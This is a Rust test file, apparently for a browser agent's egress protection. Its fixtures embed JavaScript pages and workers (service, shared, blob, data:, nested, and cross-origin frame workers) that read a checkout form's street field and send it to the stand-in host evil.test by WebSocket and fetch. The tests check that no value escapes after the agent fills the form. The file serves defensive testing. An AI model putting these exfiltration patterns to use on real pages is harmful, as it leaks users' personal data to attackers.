//! Workers of a site without a frame. No rule of the browser controls their sockets, so none of them may exist when a
//! page gets values.

use crate::earlier_pages::shown_until;
use crate::egress::{arrive, until_quiet, wait_for};
use crate::stage::{FORM, REQUEST, Stage};

/// The site's own workers: a service worker, shared workers of a script and of a blob, a worker in a worker. Each sends
/// its messages and the broadcasts.
const OWN: &str = r#"<script>
  const code = (name) => `const send = (d) => {
      try { new WebSocket('wss://evil.test:PORT/${name}-socket?' + d); } catch {}
      fetch('https://evil.test:PORT/${name}-fetch?' + d, { mode: 'no-cors' }).catch(() => {});
    };
    addEventListener('message', (e) => send(e.data));
    onconnect = (e) => { e.ports[0].onmessage = (m) => send(m.data); };
    try { new BroadcastChannel('all').onmessage = (e) => send(e.data); } catch {}`;
  let tells = [];
  const tried = (make) => { try { return make(); } catch { return null; } };
  const start = async () => {
    const shared = (url) => tried(() => new SharedWorker(url, 'x').port);
    const all = [
      shared('/shared.js'),
      shared(URL.createObjectURL(new Blob([code('blob')]))),
      tried(() => new Worker('/nested.js')),
    ];
    const active = await navigator.serviceWorker.register('/service.js').then(() => navigator.serviceWorker.ready)
      .then((there) => there.active).catch(() => null);
    tells = [...all, active].filter(Boolean);
  };
  const give = () => {
    const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
    for (const one of tells) one.postMessage(d);
    new BroadcastChannel('all').postMessage(d);
  };
  addEventListener('input', () => setTimeout(() => { give(); start().then(give, give).then(() => { document.body.dataset.sent = ''; }); }, 50));
  </script>"#;

const SERVICE: &str = "const send = (d) => {
      try { new WebSocket('wss://evil.test:PORT/service-socket?' + d); } catch {}
      fetch('https://evil.test:PORT/service-fetch?' + d, { mode: 'no-cors' }).catch(() => {});
    };
    oninstall = () => skipWaiting();
    onactivate = (e) => e.waitUntil(clients.claim());
    onmessage = (e) => { e.waitUntil(new Promise((later) => setTimeout(later, 60000))); send(e.data); };
    onsync = (e) => e.waitUntil(Promise.reject(new Error('later')));
    new BroadcastChannel('all').onmessage = (e) => send(e.data);";

const SHARED: &str = "const send = (d) => {
      try { new WebSocket('wss://evil.test:PORT/shared-socket?' + d); } catch {}
      fetch('https://evil.test:PORT/shared-fetch?' + d, { mode: 'no-cors' }).catch(() => {});
    };
    onconnect = (e) => { e.ports[0].onmessage = (m) => send(m.data); };
    new BroadcastChannel('all').onmessage = (e) => send(e.data);";

const NESTED: &str = "const inner = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => {
      new WebSocket('wss://evil.test:PORT/nested-socket?' + e.data); };`])));
    onmessage = (e) => inner.postMessage(e.data);";

const WAYS: [&str; 6] =
    ["service-socket", "service-fetch", "shared-socket", "shared-fetch", "blob-socket", "nested-socket"];

#[test]
fn no_worker_of_the_site_sends_the_values_of_its_page() {
    let mut stage = Stage::new(41);
    stage.site.put("shop.test/checkout", &format!("{FORM}{OWN}"));
    stage.site.put("shop.test/service.js", SERVICE);
    stage.site.put("shop.test/shared.js", SHARED);
    stage.site.put("shop.test/nested.js", NESTED);
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    stage.browser().evaluate("start().then(give)");
    arrive(&stage, "evil.test", &WAYS);

    // Earlier documents and workers exist when the task starts.
    stage.task();
    stage.agent_until(None, "Deliver to");
    let before = until_quiet(&stage);
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(stage.browser().values()["street"], stage.value("street"));
    assert_eq!(until_quiet(&stage), before, "a worker sent something after the fill");
    // They also exist in another tab of the site, which opens later.
    stage.browser().tab(&url);
    stage.browser().evaluate("document.forms[0].elements.street.value = 'of a later tab'");
    stage.browser().evaluate("start().then(give, give)");
    assert_eq!(until_quiet(&stage), before);
    stage.no_value_got_out();
}

/// Another site's frame, which passes its messages to workers of its own.
const FRAME: &str = r#"<!doctype html><script>
  const tried = (make) => { try { return make(); } catch { return null; } };
  addEventListener('message', async (e) => {
    tried(() => new SharedWorker('/shared.js', 'x'))?.port.postMessage(e.data);
    const there = await navigator.serviceWorker.register('/service.js').then(() => navigator.serviceWorker.ready).catch(() => null);
    there?.active.postMessage(e.data);
  });</script>"#;

/// Sends to that frame, and to a shared worker of a `data:` address, which has an opaque origin.
const SENDS_TO_FRAME: &str = r#"<iframe id="inner" src="https://bank.test:PORT/frame"></iframe><script>
  const code = `onconnect = (e) => { e.ports[0].onmessage = (m) => {
    new WebSocket('wss://evil.test:PORT/data-socket?' + m.data);
    fetch('https://evil.test:PORT/data-fetch?' + m.data, { mode: 'no-cors' }); }; }`;
  const port = new SharedWorker('data:text/javascript,' + encodeURIComponent(code)).port;
  const give = () => {
    const d = encodeURIComponent(document.forms[0].elements.street.value || 'nothing yet');
    document.getElementById('inner').contentWindow.postMessage(d, '*');
    port.postMessage(d);
  };
  addEventListener('input', () => setTimeout(() => { give(); document.body.dataset.sent = ''; }, 50));</script>"#;

#[test]
fn no_worker_of_another_origin_sends_the_values_of_a_page() {
    let mut stage = Stage::new(42);
    stage.site.put("shop.test/checkout", &format!("{FORM}{SENDS_TO_FRAME}"));
    stage.site.put("bank.test/frame", FRAME);
    stage.site.put("bank.test/service.js", SERVICE);
    stage.site.put("bank.test/shared.js", SHARED);
    stage.serve(true);
    stage.browse();
    // The setting of a user who lets sites store data in frames.
    stage.browser().at_question("storeInFrames", &serde_json::json!({}));
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    stage.browser().evaluate("give()");
    let ways =
        ["service-socket", "service-fetch", "shared-socket", "shared-fetch", "data-socket", "data-fetch"];
    arrive(&stage, "evil.test", &ways);

    stage.task();
    stage.agent_until(None, "Deliver to");
    let before = until_quiet(&stage);
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("GRANT.address"), "{reply} {}", stage.asked());
    wait_for(&mut stage, "'sent' in document.body.dataset");
    assert_eq!(until_quiet(&stage), before, "the frame or one of its workers sent something");
    stage.no_value_got_out();
}

#[test]
fn a_page_that_cannot_be_restricted_is_not_filled_and_the_user_is_warned() {
    let mut stage = Stage::new(43);
    stage.site.put("shop.test/checkout", &format!("{FORM}{OWN}"));
    stage.site.put("shop.test/service.js", SERVICE);
    stage.serve(true);
    stage.browse();
    let url = stage.site.url("shop.test/checkout");
    stage.browser().open(&url);
    // A window of the site that came from no server, opened before the task: it cannot be reloaded.
    stage.browser().evaluate("void (window.made = open('about:blank'))");
    stage.browser().front();
    stage.task();
    stage.agent_until(None, "Deliver to");
    let reply = stage.agent(Some(REQUEST));
    assert!(reply.contains("egress_blocked"), "{reply}");
    let warning = shown_until(&stage, "that was there before the task began");
    assert!(warning.contains("open pages of these sites are loaded again"), "{warning}");
    assert_eq!(stage.browser().values()["street"], "");
    stage.browser().at_question("closeOthers", &serde_json::json!({}));
    let reply = stage.agent_until(Some(REQUEST), "GRANT");
    assert!(reply.contains("GRANT.address"), "{reply}");
    stage.no_value_got_out();
}
